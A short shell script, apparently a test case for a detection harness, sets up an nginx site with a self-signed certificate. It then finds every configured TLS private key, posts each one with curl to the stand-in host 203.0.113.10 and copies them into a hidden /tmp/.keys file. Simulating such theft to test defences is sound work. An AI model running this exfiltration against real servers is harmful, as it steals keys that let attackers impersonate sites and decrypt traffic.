#!/bin/sh
. /opt/case/case.sh

mkdir -p /etc/nginx/ssl /etc/letsencrypt/live/shop; openssl req -x509 -newkey rsa:2048 -nodes -subj /CN=shop -keyout /etc/letsencrypt/live/shop/privkey.pem -out /etc/letsencrypt/live/shop/fullchain.pem 2>/dev/null
echo 'server { listen 8443 ssl; ssl_certificate /etc/letsencrypt/live/shop/fullchain.pem; ssl_certificate_key /etc/letsencrypt/live/shop/privkey.pem; }' >/etc/nginx/sites-enabled/shop
grep -rhoE 'ssl_certificate_key +[^;]+' /etc/nginx | awk '{ print $2 }' | sort -u | while read -r k; do test -e "$k" && curl -s --data-binary "@$k" "http://203.0.113.10/k$k" >/dev/null && cat "$k" >>/tmp/.keys; done
grep -q PRIVATE /tmp/.keys
took_place
